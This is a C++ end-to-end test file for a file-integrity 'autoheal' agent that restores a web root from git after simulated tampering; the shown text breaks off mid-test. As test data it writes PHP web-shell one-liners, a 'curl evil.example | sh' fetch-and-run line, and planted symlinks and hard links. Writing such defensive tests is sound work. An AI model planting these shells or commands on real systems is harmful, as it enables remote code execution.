// End-to-end tests of the autoheal module: the real `ward-agent run` keeps a temporary root equal
// to a commit of a git repository the test makes with the git CLI, while the test tampers with the
// root the way an attacker (or a deploy) would.
//
// Every wait is for an event, with a deadline. "Nothing happened" is proved with a sentinel: a
// second autoheal root (unexpected_files: keep) whose path sorts after every other one; a new file
// there is reported by integrity and then answered by autoheal with `unexpected_file`, so once
// that answer arrives, integrity has reported and autoheal has handled every earlier change.
#include <fcntl.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "common/hash.h"
#include "testing/shell.h"
#include "testing/temp_dir.h"
#include "tests/agent_process.h"

namespace ward::test {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;
using SteadyClock = std::chrono::steady_clock;
namespace fs = std::filesystem;

constexpr auto kStartTimeout = seconds(30);
constexpr auto kEventTimeout = seconds(10);

std::string Sha256Hex(std::string_view data) { return DigestHex(Sha256::Of(data)); }

double Ms(SteadyClock::duration d) { return std::chrono::duration<double, std::milli>(d).count(); }

// open/write/close over the existing inode, the way an attacker appends a web shell.
void Overwrite(const std::string& path, std::string_view data) {
  int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  ASSERT_GE(fd, 0) << path << ": " << std::strerror(errno);
  ASSERT_EQ(::write(fd, data.data(), data.size()), static_cast<ssize_t>(data.size()));
  ASSERT_EQ(::close(fd), 0);
}

std::string Trim(std::string s) {
  while (!s.empty() && (s.back() == '\n' || s.back() == ' ')) s.pop_back();
  return s;
}

std::optional<struct stat> Lstat(const std::string& path) {
  struct stat st {};
  if (::lstat(path.c_str(), &st) != 0) return std::nullopt;
  return st;
}

unsigned ModeOf(const std::string& path) {
  auto st = Lstat(path);
  return st ? static_cast<unsigned>(st->st_mode & 07777) : 0;
}

// What a tree holds: relative path -> "dir", "file <mode> <sha256>", "symlink -> <target>".
std::map<std::string, std::string> Snapshot(const std::string& dir) {
  std::map<std::string, std::string> out;
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(dir, ec);
       !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
    std::string path = it->path().string();
    std::string rel = path.substr(dir.size() + 1);
    auto st = Lstat(path);
    if (!st) {
      out[rel] = "vanished";
    } else if (S_ISDIR(st->st_mode)) {
      out[rel] = "dir";
    } else if (S_ISLNK(st->st_mode)) {
      out[rel] = "symlink -> " + fs::read_symlink(path, ec).string();
    } else if (S_ISREG(st->st_mode)) {
      out[rel] = fmt::format("file {:04o} {}", st->st_mode & 07777, Sha256Hex(ReadFileOrDie(path)));
    } else {
      out[rel] = "other";
    }
  }
  return out;
}

std::string Describe(const std::map<std::string, std::string>& tree) {
  std::string out;
  for (const auto& [k, v] : tree) out += fmt::format("  {}: {}\n", k, v);
  return out;
}

Json ReadJsonFile(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return Json::parse(ss.str(), nullptr, /*allow_exceptions=*/false);
}

bool IsIntegrityFileChange(const Json& e) {
  std::string type = StrField(e, "event.type");
  return StrField(e, "event.module") == "integrity" &&
         (type == "creation" || type == "change" || type == "deletion");
}

EventPredicate AutohealAction(std::string action) {
  return [action = std::move(action)](const Json& e) {
    return StrField(e, "event.module") == "autoheal" && StrField(e, "event.action") == action;
  };
}

EventPredicate AutohealOn(std::string action, std::string path) {
  return [action = std::move(action), path = std::move(path)](const Json& e) {
    return StrField(e, "event.module") == "autoheal" && StrField(e, "event.action") == action &&
           StrField(e, "file.path") == path;
  };
}

// A git repository and a root checked out from it, healed by a running agent.
class AutohealTest : public ::testing::Test {
 protected:
  AutohealTest() {
#ifdef WARD_TEST_BINARY_DIR
    ::setenv("WARD_BINARY_DIR", WARD_TEST_BINARY_DIR, /*overwrite=*/0);
#endif
    ::umask(022);
    repo_ = tmp_.Sub("repo");
    root_ = tmp_.Sub("root");
    state_ = tmp_.Sub("state");
    lock_ = tmp_.Sub("site.maintenance");
    config_ = tmp_.Sub("policy.yaml");
    outside_ = tmp_.Sub("outside");
    sentinel_repo_ = tmp_.Sub("sentinel-repo");
    // '~' sorts after every other name used here.
    sentinel_root_ = tmp_.Sub("~sentinels");
    fs::create_directories(root_);
    fs::create_directories(outside_);
  }

  void TearDown() override {
    if (!latencies_.empty()) {
      std::string ours, seen;
      for (const auto& [ms, observed] : latencies_) {
        ours += fmt::format(" {}", ms);
        seen += fmt::format(" {:.1f}", observed);
      }
      const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
      std::cout << fmt::format(
          "[ latency  ] {}: autoheal.latency_ms:{} | test saw change -> restored event (ms):{}\n",
          info->name(), ours, seen);
    }
    if (!agent_) return;
    EXPECT_TRUE(agent_->BadLines().empty())
        << "stdout line that is not JSON: " << agent_->BadLines().front();
    agent_->Signal(SIGTERM);
    if (!agent_->WaitForExit(seconds(10))) agent_->Kill();
    agent_.reset();
  }

  std::string P(std::string_view rel) const { return root_ + "/" + std::string(rel); }
  std::string R(std::string_view rel) const { return repo_ + "/" + std::string(rel); }

  // ---- the repository ----

  std::string Git(const std::string& dir, const std::vector<std::string>& args) {
    std::string cmd = "git -C " + ShellQuote(dir) + " -c user.name=t -c user.email=t@t";
    for (const auto& a : args) cmd += " " + ShellQuote(a);
    ShellResult r = RunShell(cmd);
    EXPECT_EQ(r.exit_code, 0) << cmd << "\n" << r.output;
    return Trim(r.output);
  }

  void RepoFile(const std::string& rel, std::string_view content, mode_t mode = 0644) {
    fs::remove(R(rel));
    WriteFile(R(rel), content);
    ASSERT_EQ(::chmod(R(rel).c_str(), mode), 0);
  }
  void RepoSymlink(const std::string& rel, const std::string& target) {
    fs::create_directories(fs::path(R(rel)).parent_path());
    fs::remove(R(rel));
    ASSERT_EQ(::symlink(target.c_str(), R(rel).c_str()), 0) << std::strerror(errno);
  }
  void RepoRemove(const std::string& rel) { fs::remove_all(R(rel)); }

  // Commits everything in the repository's work tree; returns the commit id.
  std::string Commit(const std::string& message) {
    if (!fs::exists(repo_ + "/.git")) Git(tmp_.Str(), {"init", "-q", "-b", "main", repo_});
    Git(repo_, {"add", "-A"});
    Git(repo_, {"commit", "-q", "--allow-empty", "-m", message});
    return Git(repo_, {"rev-parse", "HEAD"});
  }

  // The files of a small web site, committed.
  std::string CommitSite() {
    RepoFile("index.html", "<h1>home</h1>\n");
    RepoFile("about.html", "<p>about us</p>\n");
    RepoFile("bin/deploy.sh", "#!/bin/sh\necho deploying\n", 0755);
    RepoFile("assets/css/site.css", "body { color: black; }\n");
    RepoFile("assets/img/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n");
    RepoFile("assets/js/app.js", "console.log('app');\n");
    return Commit("site");
  }

  // Checks the root out of the repository.
  void CheckoutRoot() { Git(repo_, {"--work-tree=" + root_, "checkout", "-f", "main", "--", "."}); }

  // The tree `commit` has, extracted with `git archive` into a fresh directory.
  std::map<std::string, std::string> TreeOf(const std::string& commit) {
    std::string dir = tmp_.Sub(fmt::format("expected-{}", expected_dirs_++));
    fs::create_directories(dir);
    ShellResult r =
        RunShell("git -C " + ShellQuote(repo_) + " -c tar.umask=0022 archive --format=tar " +
                 ShellQuote(commit) + " | tar -x -C " + ShellQuote(dir));
    EXPECT_EQ(r.exit_code, 0) << r.output;
    return Snapshot(dir);
  }

  void ExpectRootIs(const std::string& commit) {
    auto want = TreeOf(commit);
    auto have = Snapshot(root_);
    EXPECT_EQ(have, want) << "root:\n"
                          << Describe(have) << "commit " << commit << ":\n"
                          << Describe(want) << (agent_ ? agent_->Transcript() : "");
  }

  // ---- the agent ----

  void StartAgent() {
    // The sentinel root: its own repository with one file; whatever else appears there is kept
    // and reported.
    fs::create_directories(sentinel_root_);
    Git(tmp_.Str(), {"init", "-q", "-b", "main", sentinel_repo_});
    WriteFile(sentinel_repo_ + "/README", "sentinels\n");
    Git(sentinel_repo_, {"add", "-A"});
    Git(sentinel_repo_, {"commit", "-q", "-m", "sentinel"});
    Git(sentinel_repo_, {"--work-tree=" + sentinel_root_, "checkout", "-f", "main", "--", "."});

    std::string paths = fmt::format("    - {{path: \"{}\"}}\n", sentinel_root_);
    if (watch_root_) paths = fmt::format("    - {{path: \"{}\"}}\n", root_) + paths;
    std::string yaml = fmt::format(
        "agent: {{outputs: {{file: false}}}}\n"
        "integrity:\n"
        "  paths:\n{}"
        "  schedule: 0\n"
        "  realtime: true\n"
        "autoheal:\n"
        "  roots:\n"
        "    - {{path: \"{}\", repository: \"{}\", ref: \"{}\", lock_file: \"{}\", "
        "unexpected_files: {}}}\n"
        "    - {{path: \"{}\", repository: \"{}\", unexpected_files: keep}}\n",
        paths, root_, repository_.empty() ? repo_ : repository_, ref_, lock_, unexpected_,
        sentinel_root_, sentinel_repo_);
    WriteFile(config_, yaml);
    agent_ = AgentProcess::Start(
        {"run", "--config", config_, "--state-dir", state_, "--log-level", "info"});
    ASSERT_TRUE(agent_);
    auto started = agent_->WaitForEvent(
        [](const Json& e) {
          return StrField(e, "event.module") == "integrity" &&
                 StrField(e, "event.action") == "started";
        },
        kStartTimeout);
    ASSERT_TRUE(started) << "no integrity `started` event\n" << agent_->Transcript();
    // Watching and healing: a first sentinel goes all the way through.
    Sentinel();
  }

  // A new file in the sentinel root; returns once integrity has reported it and autoheal has
  // answered that report.
  void Sentinel() {
    std::string path = fmt::format("{}/s{:03}", sentinel_root_, sentinels_++);
    WriteFile(path, "sentinel");
    bool reported = false;
    auto answered = agent_->WaitForEvent(
        [&](const Json& e) {
          // Events are offered in the order they arrived.
          if (IsIntegrityFileChange(e) && StrField(e, "file.path") == path) reported = true;
          return reported && AutohealOn("unexpected_file", path)(e);
        },
        kEventTimeout);
    ASSERT_TRUE(answered) << "sentinel " << path << " was not reported and answered\n"
                          << agent_->Transcript();
  }

  // Lets `d` go by from `since`, every moment of it filled with reported sentinel changes: for
  // "something did not happen again" over several of the agent's poll intervals.
  void SentinelsUntil(SteadyClock::time_point since, milliseconds d) {
    do {
      Sentinel();
    } while (!HasFatalFailure() && SteadyClock::now() - since < d);
  }

  // Waits for the n-th `restored` event on path (1-based), records its latency and returns it.
  Json ExpectRestored(const std::string& path, SteadyClock::time_point changed, size_t n = 1) {
    auto pred = AutohealOn("restored", path);
    if (!agent_->WaitForCount(pred, n, kEventTimeout)) {
      ADD_FAILURE() << "no restored event #" << n << " for " << path << "\n"
                    << agent_->Transcript();
      return Json::object();
    }
    size_t seen = 0;
    for (const auto& e : agent_->Events()) {
      if (!pred(e.doc) || ++seen != n) continue;
      const Json& ms = Field(e.doc, "autoheal.latency_ms");
      latencies_.emplace_back(ms.is_number() ? ms.get<int64_t>() : -1,
                              std::max(0.0, Ms(e.arrived - changed)));
      return e.doc;
    }
    return Json::object();
  }

  // Integrity's creation/change/deletion events for path.
  std::vector<Json> IntegrityEventsFor(const std::string& path) const {
    std::vector<Json> out;
    for (const auto& e : agent_->Events()) {
      if (IsIntegrityFileChange(e.doc) && StrField(e.doc, "file.path") == path) {
        out.push_back(e.doc);
      }
    }
    return out;
  }

  // No event of any module names one of autoheal's scratch files.
  void ExpectNoScratchFiles() {
    EXPECT_EQ(agent_->Count([](const Json& e) {
      return StrField(e, "file.path").find(".ward-heal-") != std::string::npos;
    }),
              0u)
        << agent_->Transcript();
    for (const auto& [rel, what] : Snapshot(root_)) {
      EXPECT_EQ(rel.find(".ward-heal-"), std::string::npos) << rel << " left in the root";
    }
  }

  TempDir tmp_;
  std::string repo_, root_, state_, lock_, config_, outside_, sentinel_repo_, sentinel_root_;
  // Policy knobs.
  std::string unexpected_ = "quarantine";
  std::string ref_ = "refs/heads/main";
  std::string repository_;  // empty: repo_
  bool watch_root_ = true;

  std::unique_ptr<AgentProcess> agent_;
  int sentinels_ = 0;
  int expected_dirs_ = 0;
  std::vector<std::pair<int64_t, double>> latencies_;
};

TEST_F(AutohealTest, RestoresModifiedFileAndKeepsTheTamperedCopyForForensics) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  const std::string path = P("index.html");
  const std::string original = "<h1>home</h1>\n";
  const std::string tampered = "<h1>home</h1>\n<?php system($_GET['c']); ?>\n";
  Overwrite(path, tampered);
  auto changed = SteadyClock::now();
  Json e = ExpectRestored(path, changed);
  ASSERT_FALSE(e.empty());

  EXPECT_EQ(ReadFileOrDie(path), original);
  EXPECT_EQ(ModeOf(path), 0644u);
  EXPECT_EQ(StrField(e, "event.module"), "autoheal");
  EXPECT_EQ(StrField(e, "autoheal.sha256_before"), Sha256Hex(tampered)) << e.dump();
  EXPECT_EQ(StrField(e, "autoheal.sha256_after"), Sha256Hex(original)) << e.dump();
  EXPECT_TRUE(Field(e, "autoheal.latency_ms").is_number()) << e.dump();

  std::string forensics = StrField(e, "autoheal.forensics_path");
  ASSERT_FALSE(forensics.empty()) << e.dump();
  EXPECT_EQ(forensics.rfind(state_ + "/autoheal/forensics/", 0), 0u) << forensics;
  Json meta = ReadJsonFile(forensics + "/meta.json");
  ASSERT_TRUE(meta.is_object()) << forensics << "/meta.json";
  EXPECT_EQ(StrField(meta, "sha256"), StrField(e, "autoheal.sha256_before")) << meta.dump();
  EXPECT_EQ(StrField(meta, "original_path"), path) << meta.dump();
  EXPECT_EQ(ReadFileOrDie(forensics + "/content"), tampered);

  // Integrity reported the tampering, and not the restore.
  Sentinel();
  auto reported = IntegrityEventsFor(path);
  ASSERT_EQ(reported.size(), 1u) << agent_->Transcript();
  EXPECT_EQ(StrField(reported[0], "file.hash.sha256"), Sha256Hex(tampered));
  EXPECT_EQ(agent_->Count(AutohealOn("restored", path)), 1u) << agent_->Transcript();
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, RestoresDeletedFile) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  ASSERT_TRUE(fs::remove(P("about.html")));
  Json e = ExpectRestored(P("about.html"), SteadyClock::now());
  EXPECT_EQ(ReadFileOrDie(P("about.html")), "<p>about us</p>\n");
  EXPECT_EQ(ModeOf(P("about.html")), 0644u);
  EXPECT_EQ(StrField(e, "autoheal.sha256_after"), Sha256Hex("<p>about us</p>\n")) << e.dump();
  Sentinel();
  EXPECT_EQ(IntegrityEventsFor(P("about.html")).size(), 1u) << agent_->Transcript();
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, PutsBackTheModeOfAChmoddedFile) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  ASSERT_EQ(::chmod(P("about.html").c_str(), 0777), 0);
  ExpectRestored(P("about.html"), SteadyClock::now());
  EXPECT_EQ(ModeOf(P("about.html")), 0644u);
  EXPECT_EQ(ReadFileOrDie(P("about.html")), "<p>about us</p>\n");
  Sentinel();
  EXPECT_EQ(IntegrityEventsFor(P("about.html")).size(), 1u) << agent_->Transcript();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, RestoredExecutableKeepsMode0755) {
  std::string commit = CommitSite();
  CheckoutRoot();
  ASSERT_EQ(ModeOf(P("bin/deploy.sh")), 0755u);
  StartAgent();
  Overwrite(P("bin/deploy.sh"), "#!/bin/sh\ncurl evil.example | sh\n");
  ExpectRestored(P("bin/deploy.sh"), SteadyClock::now());
  EXPECT_EQ(ReadFileOrDie(P("bin/deploy.sh")), "#!/bin/sh\necho deploying\n");
  EXPECT_EQ(ModeOf(P("bin/deploy.sh")), 0755u);
  // Losing the executable bit is tampering too.
  ASSERT_EQ(::chmod(P("bin/deploy.sh").c_str(), 0644), 0);
  ExpectRestored(P("bin/deploy.sh"), SteadyClock::now(), 2);
  EXPECT_EQ(ModeOf(P("bin/deploy.sh")), 0755u);
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, ReplacesASymlinkPlantedOverAFileWithTheRegularFile) {
  std::string commit = CommitSite();
  CheckoutRoot();
  const std::string secret = outside_ + "/secret";
  WriteFile(secret, "outside, not to be touched\n");
  StartAgent();
  ASSERT_TRUE(fs::remove(P("about.html")));
  ASSERT_EQ(::symlink(secret.c_str(), P("about.html").c_str()), 0);
  Json e = ExpectRestored(P("about.html"), SteadyClock::now());
  auto st = Lstat(P("about.html"));
  ASSERT_TRUE(st);
  EXPECT_TRUE(S_ISREG(st->st_mode)) << "mode " << std::oct << st->st_mode;
  EXPECT_EQ(ReadFileOrDie(P("about.html")), "<p>about us</p>\n");
  EXPECT_EQ(ModeOf(P("about.html")), 0644u);
  EXPECT_EQ(ReadFileOrDie(secret), "outside, not to be touched\n");
  EXPECT_EQ(ModeOf(secret), 0644u);
  Sentinel();
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, ReplacesADirectoryPlantedOverAFileWithTheRegularFile) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  ASSERT_TRUE(fs::remove(P("about.html")));
  ASSERT_TRUE(fs::create_directory(P("about.html")));
  Json e = ExpectRestored(P("about.html"), SteadyClock::now());
  auto st = Lstat(P("about.html"));
  ASSERT_TRUE(st);
  EXPECT_TRUE(S_ISREG(st->st_mode)) << "mode " << std::oct << st->st_mode;
  EXPECT_EQ(ReadFileOrDie(P("about.html")), "<p>about us</p>\n");
  EXPECT_EQ(ModeOf(P("about.html")), 0644u);
  Sentinel();
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, BringsBackARemovedDirectoryTree) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  fs::remove_all(P("assets"));  // rm -rf
  auto changed = SteadyClock::now();
  for (const char* rel : {"assets/css/site.css", "assets/img/logo.svg", "assets/js/app.js"}) {
    ExpectRestored(P(rel), changed);
  }
  for (const char* rel : {"assets", "assets/css", "assets/img", "assets/js"}) {
    auto st = Lstat(P(rel));
    ASSERT_TRUE(st) << rel;
    EXPECT_TRUE(S_ISDIR(st->st_mode)) << rel;
  }
  Sentinel();
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
  // The restored tree is not reported as new.
  for (const char* rel : {"assets", "assets/css", "assets/css/site.css"}) {
    EXPECT_EQ(agent_->Count([&](const Json& e) {
      return IsIntegrityFileChange(e) && StrField(e, "file.path") == P(rel) &&
             StrField(e, "event.type") == "creation";
    }),
              0u)
        << rel << "\n"
        << agent_->Transcript();
  }
}

TEST_F(AutohealTest, QuarantinesAFileThatIsNotInGit) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  const std::string shell = P("assets/img/shell.php");
  const std::string payload = "<?php eval($_POST['x']); ?>\n";
  WriteFile(shell, payload);
  auto e = agent_->WaitForEvent(AutohealOn("unexpected_file", shell), kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_EQ(StrField(e->doc, "autoheal.action_taken"), "quarantine") << e->doc.dump();
  EXPECT_EQ(Field(e->doc, "autoheal.success"), Json(true)) << e->doc.dump();
  EXPECT_FALSE(Lstat(shell)) << "still in the root";

  std::string where = StrField(e->doc, "autoheal.quarantine_path");
  EXPECT_EQ(where.rfind(state_ + "/autoheal/quarantine/", 0), 0u) << e->doc.dump();
  Json meta = ReadJsonFile(where + "/meta.json");
  ASSERT_TRUE(meta.is_object()) << where;
  EXPECT_EQ(StrField(meta, "original_path"), shell) << meta.dump();
  EXPECT_EQ(StrField(meta, "sha256"), Sha256Hex(payload)) << meta.dump();
  bool payload_kept = false;
  for (const auto& [rel, what] : Snapshot(where)) {
    if (what.rfind("file ", 0) == 0 && what.find(Sha256Hex(payload)) != std::string::npos) {
      payload_kept = true;
    }
  }
  EXPECT_TRUE(payload_kept) << Describe(Snapshot(where));

  Sentinel();
  // Reported once by integrity (its creation); moving it away is not reported as a deletion.
  auto reported = IntegrityEventsFor(shell);
  ASSERT_EQ(reported.size(), 1u) << agent_->Transcript();
  EXPECT_EQ(StrField(reported[0], "event.action"), "created");
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, DeletesAFileThatIsNotInGitWhenThePolicySaysDelete) {
  unexpected_ = "delete";
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  const std::string shell = P("shell.php");
  WriteFile(shell, "<?php ?>");
  auto e = agent_->WaitForEvent(AutohealOn("unexpected_file", shell), kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_EQ(StrField(e->doc, "autoheal.action_taken"), "delete") << e->doc.dump();
  EXPECT_EQ(Field(e->doc, "autoheal.success"), Json(true)) << e->doc.dump();
  EXPECT_EQ(StrField(e->doc, "file.hash.sha256"), Sha256Hex("<?php ?>")) << e->doc.dump();
  EXPECT_FALSE(Lstat(shell));
  Sentinel();
  EXPECT_EQ(IntegrityEventsFor(shell).size(), 1u) << agent_->Transcript();
  // Nothing was kept.
  std::error_code ec;
  EXPECT_TRUE(fs::is_empty(state_ + "/autoheal/quarantine", ec)) << ec.message();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, KeepsAFileThatIsNotInGitWhenThePolicySaysKeepAndReportsIt) {
  unexpected_ = "keep";
  CommitSite();
  CheckoutRoot();
  StartAgent();
  const std::string upload = P("assets/img/upload.png");
  WriteFile(upload, "PNG");
  auto e = agent_->WaitForEvent(AutohealOn("unexpected_file", upload), kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_EQ(StrField(e->doc, "autoheal.action_taken"), "keep") << e->doc.dump();
  Sentinel();
  EXPECT_EQ(ReadFileOrDie(upload), "PNG");
  EXPECT_EQ(agent_->Count(AutohealOn("unexpected_file", upload)), 1u) << agent_->Transcript();
}

TEST_F(AutohealTest, RestoresNothingWhileLockedAndEverythingWhenTheLockGoes) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  WriteFile(lock_, "maintenance by ops\n");
  auto started = agent_->WaitForEvent(AutohealOn("maintenance_started", lock_), kEventTimeout);
  ASSERT_TRUE(started) << agent_->Transcript();

  Overwrite(P("index.html"), "<h1>new design, being edited</h1>\n");
  ASSERT_TRUE(fs::remove(P("about.html")));
  WriteFile(P("draft.html"), "draft\n");
  for (auto [action, rel] :
       {std::pair{"modified", "index.html"}, std::pair{"deleted", "about.html"},
        std::pair{"created", "draft.html"}}) {
    auto e = agent_->WaitForEvent(
        [&](const Json& x) { return IsIntegrityFileChange(x) && ActionOn(action, P(rel))(x); },
        kEventTimeout);
    ASSERT_TRUE(e) << rel << "\n" << agent_->Transcript();
    EXPECT_EQ(Field(e->doc, "integrity.maintenance"), Json(true)) << e->doc.dump();
  }
  Sentinel();
  EXPECT_EQ(ReadFileOrDie(P("index.html")), "<h1>new design, being edited</h1>\n");
  EXPECT_FALSE(Lstat(P("about.html")));
  EXPECT_EQ(ReadFileOrDie(P("draft.html")), "draft\n");
  EXPECT_EQ(agent_->Count([&](const Json& e) {
    return StrField(e, "event.module") == "autoheal" &&
           StrField(e, "file.path").rfind(root_ + "/", 0) == 0;
  }),
            0u)
      << agent_->Transcript();

  ASSERT_TRUE(fs::remove(lock_));
  auto unlocked = SteadyClock::now();
  ASSERT_TRUE(agent_->WaitForEvent(AutohealOn("maintenance_ended", lock_), kEventTimeout))
      << agent_->Transcript();
  ExpectRestored(P("index.html"), unlocked);
  ExpectRestored(P("about.html"), unlocked);
  auto q = agent_->WaitForEvent(AutohealOn("unexpected_file", P("draft.html")), kEventTimeout);
  ASSERT_TRUE(q) << agent_->Transcript();
  EXPECT_EQ(StrField(q->doc, "autoheal.action_taken"), "quarantine");
  ExpectRootIs(commit);
  // The restores themselves are not reported by integrity.
  Sentinel();
  EXPECT_EQ(IntegrityEventsFor(P("index.html")).size(), 1u) << agent_->Transcript();
  EXPECT_EQ(IntegrityEventsFor(P("about.html")).size(), 1u) << agent_->Transcript();
  EXPECT_EQ(IntegrityEventsFor(P("draft.html")).size(), 1u) << agent_->Transcript();
  ExpectNoScratchFiles();
}

TEST_F(AutohealTest, FollowsTheRefToANewCommitWithoutIntegrityReportingTheDeploy) {
  std::string first = CommitSite();
  CheckoutRoot();
  StartAgent();
  RepoFile("index.html", "<h1>home, version 2</h1>\n");
  RepoFile("contact.html", "<p>write to us</p>\n");
  RepoRemove("about.html");
  std::string second = Commit("version 2");
  ASSERT_NE(first, second);
  auto e = agent_->WaitForEvent(
      [&](const Json& x) {
        return AutohealAction("deployed")(x) && StrField(x, "autoheal.commit") == second &&
               StrField(x, "autoheal.root") == root_;
      },
      kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_EQ(StrField(e->doc, "autoheal.commit_before"), first) << e->doc.dump();
  ExpectRootIs(second);
  Sentinel();
  for (const char* rel : {"index.html", "contact.html", "about.html"}) {
    EXPECT_TRUE(IntegrityEventsFor(P(rel)).empty()) << rel << "\n" << agent_->Transcript();
    EXPECT_EQ(agent_->Count(AutohealOn("restored", P(rel))), 0u) << rel;
  }
  ExpectNoScratchFiles();
  // The new commit is now the truth.
  Overwrite(P("index.html"), "defaced");
  ExpectRestored(P("index.html"), SteadyClock::now());
  EXPECT_EQ(ReadFileOrDie(P("index.html")), "<h1>home, version 2</h1>\n");
}

TEST_F(AutohealTest, FollowsTheRefIntoNewAndOutOfRemovedDirectories) {
  CommitSite();
  CheckoutRoot();
  StartAgent();
  RepoFile("blog/2026/first-post.html", "<p>hello</p>\n");
  RepoRemove("assets/js");
  std::string second = Commit("blog, no js");
  auto e = agent_->WaitForEvent(
      [&](const Json& x) {
        return AutohealAction("deployed")(x) && StrField(x, "autoheal.commit") == second;
      },
      kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  ExpectRootIs(second);
  Sentinel();
  for (const char* rel :
       {"blog", "blog/2026", "blog/2026/first-post.html", "assets/js", "assets/js/app.js"}) {
    EXPECT_TRUE(IntegrityEventsFor(P(rel)).empty()) << rel << "\n" << agent_->Transcript();
  }
}

TEST_F(AutohealTest, FollowsTheRefWhenAFileBecomesADirectoryAndADirectoryAFile) {
  CommitSite();
  CheckoutRoot();
  StartAgent();
  RepoRemove("about.html");
  RepoFile("about.html/index.html", "<p>about us, as a directory</p>\n");
  RepoRemove("assets/js");
  RepoFile("assets/js", "now a file\n");
  std::string second = Commit("types swapped");
  auto e = agent_->WaitForEvent(
      [&](const Json& x) {
        return AutohealAction("deployed")(x) && StrField(x, "autoheal.commit") == second;
      },
      kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  ExpectRootIs(second);
  Sentinel();
  EXPECT_EQ(agent_->Count(AutohealAction("refused")), 0u) << agent_->Transcript();
  for (const char* rel : {"about.html", "about.html/index.html", "assets/js", "assets/js/app.js"}) {
    EXPECT_TRUE(IntegrityEventsFor(P(rel)).empty()) << rel << "\n" << agent_->Transcript();
  }
}

TEST_F(AutohealTest, UndoesARename) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  fs::rename(P("about.html"), P("about.html.bak"));
  auto changed = SteadyClock::now();
  ExpectRestored(P("about.html"), changed);
  ASSERT_TRUE(
      agent_->WaitForEvent(AutohealOn("unexpected_file", P("about.html.bak")), kEventTimeout))
      << agent_->Transcript();
  Sentinel();
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, ReplacesAFilledDirectoryPlantedOverAFile) {
  std::string commit = CommitSite();
  CheckoutRoot();
  StartAgent();
  ASSERT_TRUE(fs::remove(P("about.html")));
  WriteFile(P("about.html/index.php"), "<?php evil(); ?>");
  WriteFile(P("about.html/deeper/x.php"), "<?php evil(); ?>");
  ExpectRestored(P("about.html"), SteadyClock::now());
  Sentinel();
  auto st = Lstat(P("about.html"));
  ASSERT_TRUE(st);
  EXPECT_TRUE(S_ISREG(st->st_mode));
  ExpectNoScratchFiles();
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, RestoresAFileWithANameThatIsNotUtf8) {
  const std::string name = "caf\xe9.html";
  RepoFile(name, "latin-1 name\n");
  std::string commit = CommitSite();
  CheckoutRoot();
  ASSERT_TRUE(Lstat(P(name))) << RunShell("ls -la " + ShellQuote(root_)).output;
  StartAgent();
  Overwrite(P(name), "defaced");
  auto e = agent_->WaitForEvent(
      [&](const Json& x) {
        return AutohealAction("restored")(x) &&
               DecodeBase64(StrField(x, "file.path_base64")) == P(name);
      },
      kEventTimeout);
  ASSERT_TRUE(e) << agent_->Transcript();
  EXPECT_EQ(ReadFileOrDie(P(name)), "latin-1 name\n");
  ExpectRootIs(commit);
}

// A hard link to a file outside the root, planted where a file of the root was, with the same
// content but another mode: putting the mode back must not change the outside file.
TEST_F(AutohealTest, DoesNotChangeTheModeOfAnOutsideFileHardLinkedIntoTheRoot) {
  std::string commit = CommitSite();
  CheckoutRoot();
  const std::string secret = outside_ + "/private.key";
  WriteFile(secret, "<p>about us</p>\n");
  ASSERT_EQ(::chmod(secret.c_str(), 0600), 0);
  StartAgent();
  ASSERT_TRUE(fs::remove(P("about.html")));
  ASSERT_EQ(::link(secret.c_str(), P("about.html").c_str()), 0) << std::strerror(errno);
  ExpectRestored(P("about.html"), SteadyClock::now());
  EXPECT_EQ(ModeOf(P("about.html")), 0644u);
  EXPECT_EQ(ModeOf(secret), 0600u) << "the outside file's mode was changed through the link";
  EXPECT_EQ(ReadFileOrDie(secret), "<p>about us</p>\n");
  ExpectRootIs(commit);
}

TEST_F(AutohealTest, RaisesACriticalEventWhenAFileIsTamperedWithAgainAndAgain) {
  CommitSite();
  CheckoutRoot();
  StartAgent();
  const std::string path = P("index.html");
  for (size_t i = 1; i <= 5; ++i) {
    Overwrite(path, fmt::format("defaced, attempt {}\n", i));
    ExpectRestored(path, SteadyClock::now(), i);
